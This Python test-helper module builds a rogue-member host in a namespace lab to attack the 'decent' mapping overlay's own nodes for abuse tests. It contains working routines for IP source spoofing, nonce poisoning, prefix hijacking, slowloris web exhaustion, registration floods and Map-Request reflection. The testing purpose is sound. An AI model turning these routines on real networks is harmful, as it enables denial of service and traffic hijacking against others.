"""A hostile host on the namespace lab: a member gone rogue, holding the group key.

The host is a client namespace of the lab (`NetnsLab.add_client`). Its
sockets are made in that namespace by a short-lived thread that joins it
with setns(2): only the calling thread moves, and a socket stays in the
namespace it was made in whichever thread uses it. So the test process
drives every attack with ordinary sockets and reads every answer itself; no
helper process has to report back. A raw socket (IP_HDRINCL) lets the host
put another address in the IPv4 source, as any host on the bridge can.

Each attack is one function that builds its datagrams with decent.wire and
sends them. What the nodes made of it is the test's business
(tests/e2e/test_abuse.py).
"""

from __future__ import annotations

import contextlib
import ctypes
import dataclasses
import itertools
import os
import select
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from ipaddress import IPv4Address
from typing import Final, TypeVar

from decent.config import load_config
from decent.daemon import node_config
from decent.lab import CONTROL_PORT, DATA_PORT, GROUP, KEY, WEB_PORT, NetnsLab
from decent.peer.node import Node
from decent.wire import (
    DECENT_CONTROL_IID,
    AlgorithmId,
    DataHeader,
    DecodeError,
    Eid,
    EncapsulatedControlMessage,
    Locator,
    MapNotify,
    MapNotifyAck,
    MapRecord,
    MapRegister,
    MapReply,
    MapRequest,
    RequestRecord,
    Rle,
    RleEntry,
    UdpPacket,
    decode,
    encapsulate,
)

T = TypeVar("T")
Addr = tuple[str, int]
GROUP_KEY: Final = KEY.encode()
_CLONE_NEWNET: Final = 0x40000000
_LIBC: Final = ctypes.CDLL(None, use_errno=True)
#: The most records one Map-Register (or Map-Reply) can count.
MAX_RECORDS: Final = 255
#: The underlay's largest IPv4 packet, and the UDP payload that fits in it.
UNDERLAY_MTU: Final = 1500
MAX_REPLY: Final = UNDERLAY_MTU - 20 - 8


def in_namespace(ns: str, make: Callable[[], T]) -> T:
    """make() run by a thread inside network namespace `ns`: its result
    (sockets made there stay there), or its exception re-raised here."""
    out: list[T] = []
    err: list[BaseException] = []

    def run() -> None:
        try:
            fd = os.open(f"/run/netns/{ns}", os.O_RDONLY)
            try:
                if _LIBC.setns(fd, _CLONE_NEWNET) != 0:
                    code = ctypes.get_errno()
                    raise OSError(code, f"setns {ns}: {os.strerror(code)}")
            finally:
                os.close(fd)
            out.append(make())
        except BaseException as exc:  # noqa: BLE001 - re-raised in the caller
            err.append(exc)

    thread = threading.Thread(target=run, name=f"netns-{ns}")
    thread.start()
    thread.join()
    if err:
        raise err[0]
    return out[0]


# ---------------------------------------------------------------- builders
def register(
    records: Sequence[MapRecord],
    *,
    nonce: int,
    xtr_id: int,
    alg: int = AlgorithmId.HMAC_SHA_256_128,
    merge: bool = False,
    want_map_notify: bool = False,
) -> bytes:
    """A Map-Register signed with the group key as a member sends one
    (P and T set: the record TTL is the registration lifetime)."""
    msg = MapRegister(
        nonce,
        tuple(records),
        proxy_reply=True,
        ttl_timeout=True,
        merge=merge,
        want_map_notify=want_map_notify,
        xtr_id=xtr_id,
    )
    return msg.signed(GROUP_KEY, alg).encode()


def host_records(
    first: IPv4Address, count: int, rloc: IPv4Address, ttl: int = 1
) -> list[MapRecord]:
    """`count` consecutive /32s from `first`, each mapped to rloc."""
    return [
        MapRecord(first + k, 32, (Locator(rloc),), ttl, authoritative=True)
        for k in range(count)
    ]


def prefix_record(text: str, rloc: IPv4Address, ttl: int = 1) -> MapRecord:
    addr, mask = Eid.prefix(text).to_wire()
    return MapRecord(addr, mask, (Locator(rloc),), ttl, authoritative=True)


def group_record(members: Iterable[IPv4Address], ttl: int = 1) -> MapRecord:
    """The peer group's (0.0.0.0/0, G) record with an RLE of `members`, as a
    member registers its join (decent.peer.mapping.push_config.membership_mapping)."""
    addr, mask = Eid.sg("0.0.0.0/0", f"{GROUP}/32").to_wire()
    rle = Rle(tuple(RleEntry(m, 128) for m in members))
    locator = Locator(rle, 255, 0, 1, 100, local=True, reachable=True)
    return MapRecord(addr, mask, (locator,), ttl, authoritative=True)


def chunks(items: Sequence[T], size: int) -> Iterator[Sequence[T]]:
    for k in range(0, len(items), size):
        yield items[k : k + size]


def plain_request(prefix: str, itr_rloc: IPv4Address, nonce: int) -> bytes:
    """A Map-Request sent bare, not in an ECM: the smallest there is (one
    record, one ITR-RLOC). The reply goes to itr_rloc at the source port."""
    addr, mask = Eid.prefix(prefix).to_wire()
    return MapRequest(nonce, (RequestRecord(addr, mask),), (itr_rloc,)).encode()


def ecm_request(
    prefix: str, itr_rloc: IPv4Address, sport: int, nonce: int, resolver: IPv4Address
) -> bytes:
    """An ECM'd Map-Request; the reply goes to itr_rloc at the inner sport."""
    addr, mask = Eid.prefix(prefix).to_wire()
    request = MapRequest(nonce, (RequestRecord(addr, mask),), (itr_rloc,))
    return EncapsulatedControlMessage(
        request, itr_rloc, resolver, sport, CONTROL_PORT
    ).encode()


def replicated(inner_src: IPv4Address, payload: bytes) -> bytes:
    """A head-end replicated control message (RFC 9962 4.1), the data-port
    payload a member sends, saying `inner_src` sent it to the group."""
    inner = UdpPacket(
        inner_src, IPv4Address(GROUP), CONTROL_PORT, CONTROL_PORT, payload
    ).encode()
    return encapsulate(
        DataHeader(nonce=0x5A5A5A, instance_id=DECENT_CONTROL_IID), inner
    )


def member_registers(lab: NetnsLab, i: int) -> list[MapRegister]:
    """The Map-Registers node i sends now, exactly (records, flags, xTR-ID).

    A sans-I/O twin built from node i's own config file and xTR-ID makes
    them; a member knows as much (the records are in its /api/sites)."""
    cfg = load_config(lab.config_path(i))
    xtr_id = int(lab.api(i, "/api/node")["xtr_id"], 16)
    counter = itertools.count(1)
    # The lab's members are reached directly: they register what a node
    # that does no NAT check does, at once.
    config = dataclasses.replace(node_config(cfg, xtr_id), nat="off")
    twin = Node(config, nonce=lambda: next(counter), now=0.0)
    twin.handle_timer(0.0)
    own = (lab.node(i).rloc, CONTROL_PORT)
    out = []
    for data, dest in twin.datagrams_to_send():
        if dest == own:
            msg = decode(data)
            assert isinstance(msg, MapRegister)
            out.append(msg)
    return out


# ---------------------------------------------------------------- receiving
@dataclass
class Received:
    """Datagrams that arrived on one socket, with their senders."""

    datagrams: list[tuple[bytes, Addr]] = field(default_factory=list)

    @property
    def size(self) -> int:
        return sum(len(d) for d, _ in self.datagrams)


def _readable(s: socket.socket, wait: float) -> bool:
    """Whether s has a datagram within `wait` s (poll: descriptors here may
    be numbered past select()'s 1024 while a web load is held)."""
    poller = select.poll()
    poller.register(s, select.POLLIN)
    return bool(poller.poll(wait * 1000))


def receive(s: socket.socket, wait: float, until: int = 1 << 30) -> Received:
    """Datagrams arriving on s until none came for `wait` seconds, or
    `until` of them came."""
    got = Received()
    while len(got.datagrams) < until:
        if not _readable(s, wait):
            break
        data, addr = s.recvfrom(65535)
        got.datagrams.append((data, addr))
    return got


def map_replies(got: Received) -> list[tuple[bytes, MapReply]]:
    """(payload, message) of each Map-Reply received. A payload that does
    not decode (a wrapped record count leaves trailing bytes) raises."""
    out = []
    for data, _ in got.datagrams:
        msg = decode(data)
        if isinstance(msg, MapReply):
            out.append((data, msg))
    return out


class Listener:
    """Counts what reaches some sockets (a victim's), in a thread."""

    def __init__(self, sockets: Sequence[socket.socket]) -> None:
        self.sockets = list(sockets)
        self.datagrams: Counter[str] = Counter()
        self.bytes: Counter[str] = Counter()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="victim", daemon=True)
        self._thread.start()

    def _run(self) -> None:
        poller = select.poll()
        names = {}
        for s in self.sockets:
            poller.register(s, select.POLLIN)
            names[s.fileno()] = (s, s.getsockname()[0])
        while not self._stop.is_set():
            for fd, _ in poller.poll(100):
                s, name = names[fd]
                with contextlib.suppress(BlockingIOError):
                    while True:
                        data = s.recv(65535, socket.MSG_DONTWAIT)
                        self.datagrams[name] += 1
                        self.bytes[name] += len(data)

    def stop(self) -> None:
        """Stop counting and close the sockets."""
        self._stop.set()
        self._thread.join(5.0)
        for s in self.sockets:
            s.close()


# ---------------------------------------------------------------- the host
class Hostile:
    """The hostile namespace: its addresses, its sockets, its registrations."""

    def __init__(self, lab: NetnsLab, name: str = "evil", count: int = 2) -> None:
        self.lab = lab
        self.ns, self.addresses = lab.add_client(name, count)
        #: One registrant identity per attack that registers: an xTR-ID the
        #: host made up, and nonces that keep rising for all of them.
        self.nonces = itertools.count(1)
        self._raw: socket.socket | None = None
        self._open: list[socket.socket] = []

    @property
    def address(self) -> IPv4Address:
        return self.addresses[0]

    def close(self) -> None:
        for s in self._open:
            s.close()
        self._open.clear()
        if self._raw is not None:
            self._raw.close()
            self._raw = None

    def udp(self, index: int = 0, port: int = 0) -> socket.socket:
        """A UDP socket on address `index` of the host (closed by close())."""

        def make() -> socket.socket:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            s.bind((str(self.addresses[index]), port))
            return s

        s = in_namespace(self.ns, make)
        self._open.append(s)
        return s

    def tcp_sockets(self, count: int) -> list[socket.socket]:
        """`count` non-blocking TCP sockets of the host (the caller closes)."""

        def make() -> list[socket.socket]:
            out = []
            try:
                for _ in range(count):
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                    s.setblocking(False)
                    out.append(s)
            except OSError:
                for s in out:
                    s.close()
                raise
            return out

        return in_namespace(self.ns, make)

    def spoof(
        self, src: IPv4Address, sport: int, dst: IPv4Address, dport: int, data: bytes
    ) -> None:
        """Send one UDP datagram whose IPv4 source is `src`, any address."""
        if self._raw is None:
            self._raw = in_namespace(
                self.ns,
                lambda: socket.socket(
                    socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW
                ),
            )
        packet = UdpPacket(src, dst, sport, dport, data).encode()
        self._raw.sendto(packet, (str(dst), 0))

    def rloc(self, i: int) -> IPv4Address:
        return self.lab.node(i).rloc


# ---------------------------------------------------------------- 1. nonces
POISON: Final = (1 << 64) - 1


def poison_nonce(
    host: Hostile,
    victim: int,
    targets: Iterable[int],
    *,
    via: socket.socket | None = None,
) -> MapRegister:
    """Send the victim's own name-and-EIDs Map-Register, with nonce 2**64-1,
    to each target: from the victim's RLOC and control port (spoofed, as
    the issue ran it: a challenge goes to the real victim), or from `via`,
    a socket of the host (which can answer the challenge itself, with the
    key: `answer_challenges`). Returns what was sent."""
    msg = next(m for m in member_registers(host.lab, victim) if not m.merge)
    poisoned = dataclasses.replace(msg, nonce=POISON).signed(GROUP_KEY)
    data = poisoned.encode()
    for i in targets:
        if via is None:
            host.spoof(
                host.rloc(victim), CONTROL_PORT, host.rloc(i), CONTROL_PORT, data
            )
        else:
            via.sendto(data, (str(host.rloc(i)), CONTROL_PORT))
    return poisoned


def answer_challenges(s: socket.socket, expect: int, wait: float = 5.0) -> int:
    """Confirm Map-Server challenges (Map-Notify) arriving on s with a
    Map-Notify-Ack signed with the group key, as any key holder can, until
    `expect` were answered or none came for `wait` s. How many were."""
    answered = 0
    while answered < expect:
        got = receive(s, wait, until=1)
        if not got.datagrams:
            break
        data, sender = got.datagrams[0]
        try:
            msg = decode(data)
        except DecodeError:
            continue
        if isinstance(msg, MapNotify):
            ack = MapNotifyAck(msg.nonce, msg.records, msg.key_id).signed(GROUP_KEY)
            s.sendto(ack.encode(), sender)
            answered += 1
    return answered


# ---------------------------------------------------------------- 2. prefixes
def register_covering_prefixes(
    host: Hostile, targets: Iterable[int], xtr_id: int, hosts: int
) -> list[str]:
    """Register 10.0.0.0/24, 10.0.0.0/21 and `hosts` /32s below them (half
    in the /24, half elsewhere in the /21), mapped to the host itself.
    Returns the EIDs registered."""
    rloc = host.address
    half = hosts // 2
    records = [prefix_record("10.0.0.0/24", rloc), prefix_record("10.0.0.0/21", rloc)]
    records += host_records(IPv4Address("10.0.0.1"), half, rloc)
    records += host_records(IPv4Address("10.0.4.1"), hosts - half, rloc)
    s = host.udp()
    for i in targets:
        for batch in chunks(records, MAX_RECORDS):
            data = register(batch, nonce=next(host.nonces), xtr_id=xtr_id)
            s.sendto(data, (str(host.rloc(i)), CONTROL_PORT))
    return ["10.0.0.0/24", "10.0.0.0/21"]


def ask(
    s: socket.socket, resolver: IPv4Address, prefix: str, itr_rloc: IPv4Address
) -> tuple[int, Received]:
    """A plain Map-Request for prefix to resolver; (its size, what came
    back to s within a second)."""
    data = plain_request(prefix, itr_rloc, int.from_bytes(os.urandom(8), "big"))
    s.sendto(data, (str(resolver), CONTROL_PORT))
    return len(data), receive(s, 1.0)


# ---------------------------------------------------------------- 4. web load
@dataclass
class WebLoad:
    """Connections held open to one web server."""

    idle: list[socket.socket]
    slow: list[socket.socket]
    live: list[socket.socket]
    connected: int = 0

    def all(self) -> list[socket.socket]:
        return self.idle + self.slow + self.live

    def trickle(self) -> int:
        """One more header line on every slowloris connection (a request
        head that never ends); how many connections still took it."""
        alive = 0
        for s in self.slow:
            try:
                s.send(b"X-a: b\r\n")
                alive += 1
            except OSError:
                pass
        return alive

    def answers(self) -> Counter[str]:
        """The status line each connection got so far ('' if none; 'closed'
        if the server closed it without one)."""
        seen: Counter[str] = Counter()
        for s in self.all():
            try:
                head = s.recv(256, socket.MSG_PEEK)
            except BlockingIOError:
                seen[""] += 1
                continue
            except OSError:
                seen["closed"] += 1
                continue
            if not head:
                seen["closed"] += 1
            else:
                seen[head.split(b"\r\n", 1)[0].decode(errors="replace")[:32]] += 1
        return seen


@contextlib.contextmanager
def web_load(
    host: Hostile, i: int, *, idle: int, slow: int, live: int, timeout: float = 30.0
) -> Iterator[WebLoad]:
    """Open `idle` connections that send nothing, `slow` that start a request
    head and never finish it, and `live` /events subscribers that never read,
    to node i's web server; closed when the block ends."""
    target = (str(host.rloc(i)), WEB_PORT)
    socks = host.tcp_sockets(idle + slow + live)
    load = WebLoad(socks[:idle], socks[idle : idle + slow], socks[idle + slow :])
    try:
        # Connect in waves: the listen backlog is finite, and a SYN dropped
        # at a full queue is retried only after a second.
        deadline = time.monotonic() + timeout
        for wave in chunks(socks, 128):
            for s in wave:
                s.connect_ex(target)
            poller = select.poll()
            pending = {s.fileno(): s for s in wave}
            for s in wave:
                poller.register(s, select.POLLOUT)
            while pending and time.monotonic() < deadline:
                for fd, _ in poller.poll(1000):
                    s = pending.pop(fd)
                    poller.unregister(fd)
                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                        load.connected += 1
        head = f"GET / HTTP/1.1\r\nHost: {target[0]}:{target[1]}\r\n".encode()
        events = (
            f"GET /events HTTP/1.1\r\nHost: {target[0]}:{target[1]}\r\n"
            "Accept: text/event-stream\r\n\r\n"
        ).encode()
        for s in load.slow:
            with contextlib.suppress(OSError):
                s.send(head)
        for s in load.live:
            with contextlib.suppress(OSError):
                s.send(events)
        yield load
    finally:
        for s in socks:
            s.close()


def http_status(host: Hostile, i: int, host_header: str, path: str = "/") -> int:
    """The status of one GET from the hostile host naming `host_header`."""
    (s,) = host.tcp_sockets(1)
    try:
        s.setblocking(True)
        s.settimeout(5.0)
        s.connect((str(host.rloc(i)), WEB_PORT))
        s.sendall(
            f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\n"
            "Connection: close\r\n\r\n".encode()
        )
        line = s.recv(256).split(b"\r\n", 1)[0]
        return int(line.split()[1])
    finally:
        s.close()


# ---------------------------------------------------------------- 5. merge
def merge_wipe(
    host: Hostile, targets: Iterable[int], xtr_id: int, only: IPv4Address
) -> None:
    """Register the group entry with an RLE of one address and the merge
    bit clear: before the fix it replaced every member's child."""
    s = host.udp()
    for i in targets:
        data = register(
            [group_record([only])], nonce=next(host.nonces), xtr_id=xtr_id, merge=False
        )
        s.sendto(data, (str(host.rloc(i)), CONTROL_PORT))


# ---------------------------------------------------------------- 6. quota
def quota_burst(
    host: Hostile,
    targets: Sequence[int],
    xtr_id: int,
    *,
    count: int,
    first: IPv4Address,
    index: int = 1,
    pace: float = 0.002,
) -> int:
    """Register `count` /32s from `first` with one xTR-ID, from address
    `index` of the host, 255 records to a Map-Register, to every target in
    turn, as fast as the nodes' sockets take it (`pace` s between rounds).
    Returns the Map-Registers sent to each target."""
    s = host.udp(index)
    rloc = host.addresses[index]
    records = host_records(first, count, rloc)
    sent = 0
    for batch in chunks(records, MAX_RECORDS):
        data = register(batch, nonce=next(host.nonces), xtr_id=xtr_id)
        for i in targets:
            s.sendto(data, (str(host.rloc(i)), CONTROL_PORT))
        sent += 1
        time.sleep(pace)
    return sent


# ---------------------------------------------------------------- 7. reflection
def reflect(
    s: socket.socket,
    resolver: IPv4Address,
    victims: Sequence[IPv4Address],
    build: Callable[[IPv4Address, int], bytes],
    *,
    rounds: int,
    rate: float,
) -> Counter[IPv4Address]:
    """Send `rounds` Map-Requests naming each victim as ITR-RLOC, in turn,
    at about `rate` a second. `build(victim, n)` makes round n's request for
    a victim (the reply goes to the victim at s's port). Bytes sent for
    each victim."""
    sent: Counter[IPv4Address] = Counter()
    dest = (str(resolver), CONTROL_PORT)
    start = time.monotonic()
    n = 0
    for r in range(rounds):
        for v in victims:
            data = build(v, r)
            s.sendto(data, dest)
            sent[v] += len(data)
            n += 1
            if n % 32 == 0:
                time.sleep(max(0.0, start + n / rate - time.monotonic()))
    return sent


def victim_sockets(
    lab: NetnsLab, name: str, count: int, port: int
) -> tuple[list[IPv4Address], list[socket.socket]]:
    """A victim namespace with `count` addresses, a socket on each at port."""
    ns, addresses = lab.add_client(name, count)

    def make() -> list[socket.socket]:
        out = []
        for a in addresses:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((str(a), port))
            out.append(s)
        return out

    return addresses, in_namespace(ns, make)


# ---------------------------------------------------------------- 8. replicated
def replicated_register(
    host: Hostile,
    i: int,
    *,
    inner_src: IPv4Address,
    outer_src: IPv4Address | None,
    xtr_id: int,
    eid: IPv4Address,
) -> None:
    """A replicated Map-Register (IID 0xffffff on the data port) to node i,
    its inner source `inner_src`, sent from the host's own address (or with
    `outer_src` spoofed). It registers eid under an xTR-ID never seen, and
    asks for a Map-Notify: applied, it would add eid and notify inner_src."""
    inner = register(
        host_records(eid, 1, host.address),
        nonce=next(host.nonces),
        xtr_id=xtr_id,
        want_map_notify=True,
    )
    data = replicated(inner_src, inner)
    if outer_src is None:
        s = host.udp()
        s.sendto(data, (str(host.rloc(i)), DATA_PORT))
    else:
        host.spoof(outer_src, DATA_PORT, host.rloc(i), DATA_PORT, data)


# ---------------------------------------------------------------- 9. smaller
def sha1_register(host: Hostile, i: int, xtr_id: int, eid: IPv4Address) -> None:
    """A Map-Register signed with HMAC-SHA-1 (alg 1) and the group key."""
    data = register(
        host_records(eid, 1, host.address),
        nonce=next(host.nonces),
        xtr_id=xtr_id,
        alg=AlgorithmId.HMAC_SHA_1_96,
    )
    host.udp().sendto(data, (str(host.rloc(i)), CONTROL_PORT))


__all__ = [
    "MAX_RECORDS",
    "MAX_REPLY",
    "POISON",
    "Hostile",
    "Listener",
    "Received",
    "WebLoad",
    "answer_challenges",
    "ask",
    "ecm_request",
    "group_record",
    "host_records",
    "http_status",
    "in_namespace",
    "map_replies",
    "member_registers",
    "merge_wipe",
    "plain_request",
    "poison_nonce",
    "quota_burst",
    "receive",
    "reflect",
    "register",
    "register_covering_prefixes",
    "replicated",
    "replicated_register",
    "sha1_register",
    "victim_sockets",
    "web_load",
]
